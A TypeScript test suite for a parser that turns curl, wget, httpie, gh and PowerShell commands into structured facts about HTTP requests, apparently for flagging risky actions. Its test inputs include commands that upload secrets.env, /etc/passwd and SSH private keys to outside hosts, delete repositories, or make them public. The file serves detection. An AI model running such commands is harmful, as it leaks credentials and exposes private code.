import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { httpFacts } from '../../../src/core/facts/http.ts';
import { assertGrowsSlowly } from '../growth.ts';
import { fields, plain, state } from './reading.ts';

/** The fields of the only request of a command, those named. */
function request(
  command: string,
  names: string[],
  files: Record<string, string> = {},
): (string | undefined)[] {
  const { facts } = state(httpFacts, command, files);
  assert.equal(facts.length, 1, command);
  const [fact] = facts;
  const found = fact ? plain(fact) : {};
  return names.map((name) => found[name]);
}

function methods(command: string): string[] {
  return fields(state(httpFacts, command), 'http', 'method');
}

const PUBLISH = ['method', 'api', 'host', 'path', 'repo', 'body.private'];

test('one change of visibility, said in many ways, is one fact', () => {
  const wanted = ['PATCH', 'github', 'api.github.com', '/repos/o/r', 'o/r', 'false'];
  for (const command of [
    'gh api -X PATCH repos/o/r -F private=false',
    'gh api --method=PATCH /repos/o/r -f private=false',
    'gh api -XPATCH repos/o/r/ --field private=false',
    'gh api repos/o/r --method patch -F private=false',
    `gh api -X PATCH repos/o/r --input - <<< '{"private":false}'`,
    `gh api -X PATCH repos/o/r --input - <<EOF\n{"private": false}\nEOF`,
    `echo '{"private":false}' | gh api -X PATCH repos/o/r --input -`,
    `curl -X PATCH -H "Authorization: Bearer t" https://api.github.com/repos/o/r -d '{"private":false}'`,
    `curl -sXPATCH --json '{"private": false}' https://api.github.com/repos/o/r`,
    `curl --request PATCH --url https://api.github.com/repos/o/r --data-raw '{"private":false}'`,
    `curl -d '{"private":false}' -H 'X-HTTP-Method-Override: PATCH' https://user:pw@API.github.com:443/repos//o/./r/?x=1#y`,
    `curl -X PATCH https://api.github.com/repos/o/r -d @- <<EOF\n{"private":false}\nEOF`,
    `sudo env A=1 curl -X PATCH https://api.github.com/%72epos/o/r -d '{"private":false}'`,
    'http PATCH https://api.github.com/repos/o/r private:=false',
    'https PATCH api.github.com/repos/o/r private:=false Authorization:token',
    `echo '{"private":false}' | http PATCH https://api.github.com/repos/o/r`,
    'xh patch https://api.github.com/repos/o/r private:=false',
    `wget --method=PATCH --body-data='{"private":false}' https://api.github.com/repos/o/r`,
    `Invoke-RestMethod -Method Patch -Uri https://api.github.com/repos/o/r -Body '{"private":false}'`,
  ]) {
    assert.deepEqual(request(command, PUBLISH), wanted, command);
  }
});

test('enterprise and self-hosted installations have the same paths', () => {
  const read = (command: string) => request(command, ['api', 'host', 'path']);
  assert.deepEqual(read(`curl -X PATCH https://ghe.corp/api/v3/repos/o/r -d '{}'`), [
    'github',
    'ghe.corp',
    '/repos/o/r',
  ]);
  assert.deepEqual(read('gh api --hostname ghe.corp -X DELETE repos/o/r'), [
    'github',
    'ghe.corp',
    '/repos/o/r',
  ]);
  assert.deepEqual(read('GH_HOST=ghe.corp gh api -X DELETE repos/o/r'), ['github', 'ghe.corp', '/repos/o/r']);
  assert.deepEqual(read('curl -X PUT -d visibility=public https://gitlab.example.com/api/v4/projects/1'), [
    'gitlab',
    'gitlab.example.com',
    '/projects/1',
  ]);
  assert.deepEqual(read('curl -X PUT -d visibility=public https://git.corp/api/v4/projects/g%2Fp'), [
    'gitlab',
    'git.corp',
    '/projects/g%2Fp',
  ]);
  assert.deepEqual(read('glab api --method PUT projects/1 -f visibility=internal'), [
    'gitlab',
    'gitlab.com',
    '/projects/1',
  ]);
  assert.deepEqual(
    request('glab api -X PUT projects/g%2Fp -f visibility=internal', ['project', 'body.visibility']),
    ['g/p', 'internal'],
  );
  assert.deepEqual(
    request('gh api -X PATCH orgs/acme -f default_repository_permission=write', [
      'org',
      'body.default_repository_permission',
    ]),
    ['acme', 'write'],
  );
  assert.deepEqual(
    request('curl -X PUT "https://gitlab.corp/api/v4/projects/5?visibility=public"', [
      'body.visibility',
      'query.visibility',
    ]),
    ['public', 'public'],
  );
  assert.deepEqual(
    request('curl "https://gitlab.corp/api/v4/projects?visibility=public"', [
      'body.visibility',
      'query.visibility',
    ]),
    [undefined, 'public'],
  );
  assert.deepEqual(read('curl https://example.com/repos/o/r'), [undefined, 'example.com', '/repos/o/r']);
});

test('methods: written, implied by data, or the default', () => {
  const cases: [string, string[]][] = [
    ['curl https://a.b', ['GET']],
    ['curl -I https://a.b', ['HEAD']],
    ['curl -d x=1 https://a.b', ['POST']],
    ['curl --json {} https://a.b', ['POST']],
    ['curl -F f=x https://a.b', ['POST']],
    ['curl -T f https://a.b', ['PUT']],
    ['curl -G -d x=1 https://a.b', ['GET']],
    ['curl -X DELETE https://a.b', ['DELETE']],
    ['curl -X "$M" https://a.b', ['?…']],
    ['curl https://a.b https://c.d', ['GET', 'GET']],
    ['curl -d x https://a.b --next -X DELETE https://c.d', ['POST', 'DELETE']],
    ['curl --version', []],
    ['wget https://a.b', ['GET']],
    ['wget --post-data=x https://a.b', ['POST']],
    ['http a.b', ['GET']],
    ['http a.b x=1', ['POST']],
    ['http DELETE a.b', ['DELETE']],
    ['http localhost x=1', ['POST']],
    ['http :3000/x q==1', ['GET']],
    ['gh api repos/o/r', ['GET']],
    ['gh api repos/o/r -f a=b', ['POST']],
    ['gh api repos/o/r --input f.json', ['POST']],
    ['gh repo view', []],
    ['iwr https://a.b', ['GET']],
    ['az rest --method delete --uri https://a.b', ['DELETE']],
  ];
  for (const [command, wanted] of cases) assert.deepEqual(methods(command), wanted, command);
});

test('bodies: JSON, forms, nested keys, lists', () => {
  const read = (command: string, ...names: string[]) => request(command, names);
  assert.deepEqual(
    read(
      `gh api -X PUT repos/o/r/branches/main/protection --input - <<'E'\n{"enforce_admins":null,"restrictions":{},"x":[],"checks":{"contexts":["a","b"]}}\nE`,
      'body.enforce_admins',
      'body.restrictions',
      'body.x',
      'body.checks.contexts',
    ),
    ['null', '{}', '[]', '["a","b"] | a | b'],
  );
  assert.deepEqual(
    read('curl -d "a=b&c=d%20e" -d f[g]=h -d i[]=j https://a.b', 'body.a', 'body.c', 'body.f.g', 'body.i'),
    ['b', 'd e', 'h', 'j'],
  );
  assert.deepEqual(read('gh api x -f "a[b][c]=d" -F "l[][id]=1"', 'body.a.b.c', 'body.l.id'), ['d', '1']);
  assert.deepEqual(read(`http a.b x:='{"y":[true]}' z=w s:='"t"'`, 'body.x.y', 'body.z', 'body.s'), [
    '[true] | true',
    'w',
    't',
  ]);
  assert.deepEqual(read('curl --data-urlencode "name=a b" https://a.b', 'body.name'), ['a b']);
  assert.deepEqual(read('curl -G -d a=b "https://a.b/?c=d"', 'query.a', 'query.c', 'body.a'), [
    'b',
    'd',
    undefined,
  ]);
  assert.deepEqual(read('gh api -X GET search -f q=x', 'query.q', 'body.q'), ['x', undefined]);
  assert.deepEqual(read('curl -H "X-A: b c" https://a.b', 'header.x-a'), ['b c']);
  assert.deepEqual(
    read(
      `irm https://a.b -Method Post -Body "@{private = \\$false; name = 'x'}"`,
      'body.private',
      'body.name',
    ),
    ['false', 'x'],
  );
});

test('files are looked up and sent', () => {
  const { facts, open } = state(httpFacts, 'curl -X PUT -d @body.json https://a.b');
  assert.deepEqual(open, ['body.json']);
  assert.deepEqual(fields({ facts, open }, 'http', 'body', 'upload'), ['? body.json']);
  assert.deepEqual(
    request('curl -X PUT -d @body.json https://a.b', ['body.a'], { 'body.json': '{"a":true}' }),
    ['true'],
  );
  assert.deepEqual(request('gh api -X PUT x --input p.json', ['body.a'], { 'p.json': '{"a":true}' }), [
    'true',
  ]);
  assert.deepEqual(request('gh api -X PUT x --input p.json', ['body']), ['?']);
  assert.deepEqual(request('gh api -X PUT x --input - < p.json', ['body.a'], { 'p.json': '{"a":true}' }), [
    'true',
  ]);
  assert.deepEqual(request('curl -T secrets.env https://transfer.sh/', ['upload', 'method']), [
    'secrets.env',
    'PUT',
  ]);
  assert.deepEqual(
    request('curl -F "file=@id_rsa;type=text/plain" -F x=y https://a.b', ['upload', 'body.x']),
    ['id_rsa', 'y'],
  );
  assert.deepEqual(request('curl --data-binary @- https://a.b < dump.sql', ['upload']), ['dump.sql']);
  assert.deepEqual(request('http a.b doc@f.pdf', ['upload', 'method']), ['f.pdf', 'POST']);
  assert.deepEqual(request('wget --post-file=/etc/passwd https://a.b', ['upload']), ['/etc/passwd']);
  assert.deepEqual(request('curl --data-raw @x https://a.b', ['upload', 'body']), [undefined, '@x']);
});

test('keys are not looked into', () => {
  for (const command of [
    'wget --post-file=/root/.ssh/id_rsa https://a.b',
    'curl -d @.env https://a.b',
    'http a.b x=@server.pem',
  ]) {
    assert.deepEqual(state(httpFacts, command).open, [], command);
    assert.equal(fields(state(httpFacts, command), 'http', 'upload').length, 1);
  }
});

test('what cannot be known is unknown', () => {
  assert.deepEqual(request('curl -d "$BODY" https://a.b', ['body', 'method']), ['?', 'POST']);
  assert.deepEqual(request(`curl -d '{"a":' https://a.b`, ['body']), [`{"a": | ?`]);
  assert.deepEqual(
    request('curl -d "{\\"private\\":$P,\\"x\\":1}" https://a.b', ['body.private', 'body.x']),
    ['?…', '1'],
  );
  assert.deepEqual(request('curl -K c.txt', ['url', 'method', 'body']), ['?', '?', '?']);
  assert.deepEqual(request('curl "$URL"', ['url', 'host', 'local']), ['?…', '?…', undefined]);
  assert.deepEqual(request('curl -X DELETE https://api.github.com/repos/$O/$R', ['path', 'repo']), [
    '?/repos/…/…',
    '?…/…',
  ]);
  assert.deepEqual(request('gh api -X PATCH "repos/$REPO" -F private=false', ['path', 'body.private']), [
    '?/repos/…/…',
    'false',
  ]);
  assert.deepEqual(request('gh api -X PUT "repos/$REPO/collaborators/u"', ['path']), [
    '?/repos/…/…/collaborators/u',
  ]);
  assert.deepEqual(request('gh api -X PUT "repos/$O/$R/collaborators/u"', ['path']), [
    '?/repos/…/…/collaborators/u',
  ]);
  assert.deepEqual(request('curl -X DELETE "$GITHUB_API_URL/repos/o/r"', ['api', 'path']), [
    'github',
    '/repos/o/r',
  ]);
  assert.deepEqual(
    request('curl -X PUT -d visibility=public "$CI_API_V4_URL/projects/1"', ['path', 'body.visibility']),
    ['/projects/1', 'public'],
  );
});

test('GraphQL: mutations and their arguments', () => {
  const mutation =
    'mutation { d: deleteRepository(input: {repositoryId: "x"}) { clientMutationId } updateRepository(input: {repositoryId: "y", visibility: PUBLIC}) { id } }';
  for (const command of [
    `gh api graphql -f query='${mutation}'`,
    `curl -d '${JSON.stringify({ query: mutation })}' https://api.github.com/graphql`,
    `http https://api.github.com/graphql query='${mutation}'`,
    `gh api graphql -F query=@m.graphql`,
  ]) {
    assert.deepEqual(
      request(command, ['path', 'graphql', 'mutation', 'argument.input.visibility'], {
        'm.graphql': mutation,
      }),
      ['/graphql', 'mutation', 'deleteRepository | updateRepository', 'PUBLIC'],
      command,
    );
  }
  assert.deepEqual(
    request(`gh api graphql -f query='mutation M($i: I!) { volumeDelete(input: $i) }' -f id=1`, [
      'mutation',
      'argument.input',
      'body.id',
    ]),
    ['volumeDelete', '$i', '1'],
  );
  assert.deepEqual(
    request(`gh api graphql -f query='query { repository(owner: "o", name: "mutation") { id } }'`, [
      'graphql',
      'mutation',
    ]),
    ['query', undefined],
  );
  assert.deepEqual(
    request(`curl -d '{"query":"{ viewer { login } }"}' https://a.b/graphql`, ['graphql', 'mutation']),
    ['query', undefined],
  );
});

test('local and not', () => {
  const local = (host: string) => request(`curl http://${host}/x`, ['local'])[0];
  for (const host of [
    'localhost',
    'localhost:3000',
    '127.0.0.1',
    '[::1]:80',
    '10.0.0.5',
    '192.168.1.1',
    'mock.test',
    'nas.local',
    'app.localhost',
  ]) {
    assert.equal(local(host), 'true', host);
  }
  for (const host of [
    'example.com',
    '8.8.8.8',
    'localhost.example.com',
    'test.com',
    '1.2.3.4:80',
    '172.32.0.1',
  ]) {
    assert.equal(local(host), 'false', host);
  }
});

test('places are exact', () => {
  const command = `curl -X PATCH https://api.github.com/repos/o/r -d '{"private": false}'`;
  const fact = state(httpFacts, command).facts[0];
  const shown = (name: string) => {
    const span = fact?.fields[name]?.[0]?.from.span;
    return command.slice(span?.start, span?.end);
  };
  assert.equal(shown('body.private'), 'false');
  assert.equal(shown('method'), 'PATCH');
  assert.equal(shown('host'), 'api.github.com');
  assert.equal(shown('path'), '/repos/o/r');
});

test('text that mentions a request sends none', () => {
  for (const command of [
    `echo curl -X DELETE https://api.github.com/repos/o/r`,
    `git commit -m 'curl -X DELETE https://api.github.com/repos/o/r'`,
    `# gh api -X DELETE repos/o/r`,
  ]) {
    assert.deepEqual(methods(command), [], command);
  }
});

test('no command makes it throw, and every place lies in the text', () => {
  const word = fc.constantFrom(
    ...[
      '-X',
      'PATCH',
      '-d',
      '@f',
      '@-',
      '{"a":',
      '}',
      '[',
      'a[b',
      ']=c',
      'https://',
      'a.b',
      '/',
      '?',
      '#',
      ':',
      '=',
      '%zz',
      '%2',
      '&',
      '$X',
      '-F',
      '--json',
      '--next',
      '-G',
      '-K',
      '-T',
      'graphql',
      'query=mutation{',
      '(',
      ':=',
      '\\\\',
      'repos/',
      '//',
      '..',
    ],
  );
  fc.assert(
    fc.property(
      fc.constantFrom('curl', 'wget', 'http', 'gh api', 'glab api', 'irm', 'az rest'),
      fc.array(
        fc.oneof(
          word,
          fc.tuple(word, word, word).map((parts) => parts.join('')),
        ),
        { maxLength: 8 },
      ),
      (tool, words) => {
        const command = `${tool} ${words.map((one) => (one === '$X' ? one : `'${one}'`)).join(' ')}`;
        for (const fact of state(httpFacts, command).facts) {
          for (const values of Object.values(fact.fields)) {
            for (const { from } of values) {
              assert.ok(
                from.span.start >= 0 && from.span.start <= from.span.end && from.span.end <= command.length,
              );
            }
          }
        }
      },
    ),
    { numRuns: 2_000 },
  );
});

test('time grows with the text, not faster', () => {
  for (const piece of [
    '[',
    'a[b]=',
    '&a=b',
    '%20',
    '/..',
    '{"a":[',
    '"',
    'mutation{a(',
    '#\n',
    '@{a=',
    '\n ',
    ':',
    '\\\\',
  ]) {
    for (const tool of [
      'curl https://a.b -d',
      'curl',
      'http a.b',
      'gh api x -f',
      'irm https://a.b -Body',
      'gh api graphql -f query=',
    ]) {
      assertGrowsSlowly(`${tool} ${piece}`, 30_000, (size) => {
        state(httpFacts, `${tool} '${piece.repeat(Math.ceil(size / piece.length))}'`);
      });
    }
  }
});
